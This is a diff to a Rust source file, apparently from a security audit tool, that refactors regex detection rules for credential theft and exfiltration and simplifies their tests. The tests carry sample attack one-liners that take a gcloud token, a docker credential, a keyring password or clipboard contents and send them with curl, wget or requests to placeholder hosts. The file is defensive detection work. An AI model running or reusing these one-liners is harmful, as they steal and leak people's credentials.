@@ -16,158 +16,97 @@ use super::cues::{Cue, CuePlace, Explain, Means, Table};
 /// Something in the same program that sends data over the network.
 const SENDS: &str = r"(?i)(?:Net::HTTP|\brequests\.|\bhttpx\.|urlopen|\bfetch\s*\(|https?\.request|\baxios\b|http\.(?:Post|NewRequest)|Invoke-(?:RestMethod|WebRequest)|\bcurl\b|\bwget\b|\bdns\b|\bsocket\b|net\.Dial|dgram|WebClient|UploadString)";
 
-static CUES: &[Cue] = &[
+pub(super) static CUES: &[Cue] = &[
     Cue {
         means: Means::Source,
         what: "a CLI that prints a stored credential",
-        needs: &[
-            "export-credentials",
-            "auth token",
-            "_auth",
-            "docker-credential-",
-            "credential fill",
-            "find-generic-password",
-            "find-internet-password",
-            "print-access-token",
-            "get-access-token",
-            "get-session-token",
-            "secret-tool",
-            "auth:token",
-            "aws_secret_access_key",
-        ],
+        needs: "export-credentials|auth token|_auth|docker-credential-|credential fill|find-generic-password|find-internet-password|print-access-token|get-access-token|get-session-token|secret-tool|auth:token|aws_secret_access_key",
         pattern: r"(?i)(?:\baws\s+(?:configure\s+export-credentials|sts\s+get-session-token|configure\s+get\s+aws_secret_access_key)|\bgh\s+auth\s+token\b|\b(?:npm|pnpm|yarn)\s+config\s+get\s+[\x22']?(?://[^\s\x22']*:)?_auth(?:token)?\b|\bdocker-credential-[\w-]+\s+(?:get|list)\b|\bgit\s+credential\s+fill\b|\bsecurity\s+find-(?:generic|internet)-password\b[^\n]*\s-w\b|\bgcloud\s+auth\s+(?:application-default\s+)?print-access-token\b|\baz\s+account\s+get-access-token\b|\bsecret-tool\s+lookup\b|\bheroku\s+auth:token\b)",
-        also: "",
-        near: "",
-        unless: "",
         place: CuePlace::Code,
-        explain: Explain::Never,
+        ..Cue::PLAIN
     },
     Cue {
         means: Means::Source,
         what: "an OS credential vault or a token file",
-        needs: &[
-            "passwordvault",
-            "retrievepassword",
-            "credread",
-            "vault-token",
-            "get_password",
-            "get-storedcredential",
-        ],
+        needs: "passwordvault|retrievepassword|credread|vault-token|get_password|get-storedcredential",
         pattern: r"(?i)(?:\bPasswordVault\b|\bRetrievePassword\b|\bCredRead\w*\b|\.vault-token\b|\bkeyring\.get_password\b|\bGet-StoredCredential\b)",
-        also: "",
-        near: "",
-        unless: "",
         place: CuePlace::Code,
-        explain: Explain::Never,
+        ..Cue::PLAIN
     },
     Cue {
         means: Means::Source,
         what: "shell history (commands typed with their tokens)",
-        needs: &["_history", "consolehost_history"],
+        needs: "_history|consolehost_history",
         pattern: r"(?i)(?:\.(?:bash|zsh|sh|ksh)_history\b|\bfish_history\b|\bConsoleHost_history\b|\.(?:python|node|psql|mysql)_history\b)",
-        also: "",
-        near: "",
-        unless: "",
         place: CuePlace::Code,
-        explain: Explain::Never,
+        ..Cue::PLAIN
     },
     Cue {
         means: Means::Source,
         what: "the project's .env files, several at once, in a program that sends",
-        needs: &[".env"],
+        needs: ".env",
         pattern: r"(?i)[\x22'\[,(]\s*\.env(?:\.[a-z]+)?[\x22']?[\s,]+[\x22']?\.env\.[a-z]+[\s\x22',\])]",
         also: SENDS,
-        near: "",
-        unless: "",
         place: CuePlace::Script,
-        explain: Explain::Never,
+        ..Cue::PLAIN
     },
     Cue {
         means: Means::Source,
         what: "a home credential folder named in pieces",
-        needs: &[".ssh", ".aws", ".kube", ".gnupg", ".docker", ".azure"],
+        needs: ".ssh|.aws|.kube|.gnupg|.docker|.azure",
         pattern: r"(?i)(?:[\x22'`]\.(?:ssh|aws|kube|gnupg|docker|azure)[\x22'`]|-C\s+[\x22']?(?:\$HOME|\$\{HOME\}|~)[\x22']?\s+[^\n]*(?:^|\s)\.(?:ssh|aws|kube|gnupg)\b)",
         also: r"(?i)(?:UserHomeDir|homedir|expanduser|Path\.home|\$HOME|\bHOME\b|USERPROFILE|\bDir\.home|getenv\(\s*[\x22']HOME)",
-        near: "",
-        unless: "",
         place: CuePlace::Code,
-        explain: Explain::Never,
+        ..Cue::PLAIN
     },
     Cue {
         means: Means::Source,
         what: "the whole environment serialised",
-        needs: &["environ", "process.env", "env.to_h"],
+        needs: "environ|process.env|env.to_h",
         pattern: r"(?i)(?:(?:json\.dumps|JSON\.stringify|to_json|urlencode|pickle\.dumps)\([^\n]*(?:dict\(\s*os\.environ\s*\)|os\.environ\s*[,)}\]]|process\.env\s*[,)}\]]|ENV\.to_h))",
-        also: "",
-        near: "",
-        unless: "",
         place: CuePlace::Code,
-        explain: Explain::Never,
+        ..Cue::PLAIN
     },
     Cue {
         means: Means::Source,
         what: "the clipboard or the recently used files",
-        needs: &[
-            "pbpaste",
-            "xclip",
-            "xsel",
-            "get-clipboard",
-            "clipboard.read",
-            "paste()",
-            "recently-used",
-            "recentdocuments",
-            "recent items",
-        ],
+        needs: "pbpaste|xclip|xsel|get-clipboard|clipboard.read|paste()|recently-used|recentdocuments|recent items",
         pattern: r"(?i)(?:\bpbpaste\b|\bxclip\b[^\n]*-o\b|\bxsel\b[^\n]*-[ob]\b|\bGet-Clipboard\b|\bclipboard\.readText\b|\bpyperclip\.paste\(\)|recently-used\.xbel|\bRecentDocuments\b|Recent\s+Items)",
-        also: "",
-        near: "",
-        unless: "",
         place: CuePlace::Code,
-        explain: Explain::Never,
+        ..Cue::PLAIN
     },
     Cue {
         means: Means::Sink,
         what: "UDP datagrams (statsd-like) to a host",
-        needs: &["udp", "dgram"],
+        needs: "udp|dgram",
         pattern: r#"(?i)(?:net\.Dial(?:Timeout)?\(\s*"udp|\bDialUDP\b|\bSOCK_DGRAM\b|dgram\.createSocket\(|\bUdpClient\b|/dev/udp/)"#,
-        also: "",
-        near: "",
-        unless: "",
         place: CuePlace::Code,
-        explain: Explain::Never,
+        ..Cue::PLAIN
     },
     Cue {
         means: Means::Sink,
         what: "a value put in a URL's query string",
-        needs: &["http"],
+        needs: "http",
         pattern: r#"https?://[^\s\x22'`]*\?[^\s\x22'`]*=(?:\$\(|\$\{|\x22\s*\+|'\s*\+|\{[a-z_])"#,
-        also: "",
-        near: "",
-        unless: "",
         place: CuePlace::Script,
-        explain: Explain::Never,
+        ..Cue::PLAIN
     },
     Cue {
         means: Means::Rule("source-to-sink"),
         what: "sends the uncommitted changes over a covert channel",
-        needs: &["git"],
+        needs: "git",
         pattern: r#"(?i)(?:\bgit\s+diff\b|"git",\s*"diff")"#,
         also: r#"(?i)(?:net\.Dial(?:Timeout)?\(\s*"udp|\bDialUDP\b|\bSOCK_DGRAM\b|dgram\.createSocket\(|/dev/udp/|dns\.(?:resolve|lookup)|\bnslookup\b|\bdig\s)"#,
-        near: "",
-        unless: "",
         place: CuePlace::Code,
-        explain: Explain::Never,
+        ..Cue::PLAIN
     },
     Cue {
         means: Means::Rule("source-to-sink"),
         what: "uploads an archive of the working tree or the home folder",
-        needs: &["tar", "zip"],
+        needs: "tar|zip",
         pattern: r"(?i)(?:\btar\s+-?c\w*\s+-\s+(?:-C\s+\S+\s+)?(?:--exclude[=\s]\S+\s+)*(?:\.|~|\$HOME)(?:\s|$)[^\n]*\|\s*(?:curl|wget|nc|ncat|socat)\b|\bzip\s+-r\w*\s+-\s+\.\s[^\n]*\|\s*(?:curl|wget|nc)\b)",
-        also: "",
-        near: "",
-        unless: "",
-        place: CuePlace::Any,
         explain: Explain::Teaching,
+        ..Cue::PLAIN
     },
 ];
 
@@ -175,13 +114,7 @@ pub(super) static TABLE: LazyLock<Table> = LazyLock::new(|| Table::new(CUES));
 
 #[cfg(test)]
 mod tests {
-    use super::*;
-    use crate::audit::cues::high;
-
-    #[test]
-    fn every_cue_compiles() {
-        super::super::cues::compile_all(CUES);
-    }
+    use crate::audit::cues::{caught, high};
 
     #[test]
     fn credentials_printed_by_tools_and_sent_are_stolen() {
@@ -193,18 +126,12 @@ mod tests {
         .is_empty());
         // Honest: a CLI login, nothing sent.
         assert!(high(&[("s.sh", "gcloud auth login\ngcloud config list\n")]).is_empty());
-        for attack in [
+        caught(&["source-to-sink"], &[
             "t=$(gcloud auth print-access-token)\ncurl -s -d \"t=$t\" https://x.example/r\n",
             "k=$(docker-credential-desktop get <<< ghcr.io)\nwget --post-data=\"$k\" https://x.example/\n",
             "import keyring, requests\nrequests.post('https://x.example', data=keyring.get_password('svc','me'))\n",
             "curl -s \"https://q.example/s?c=$(pbpaste | base64)\"\n",
-        ] {
-            let found = high(&[("s.sh", attack)]);
-            assert!(
-                found.contains(&"source-to-sink".to_owned()),
-                "{attack}: {found:?}"
-            );
-        }
+        ].map(|a| ("s.sh", a)));
     }
 
     #[test]
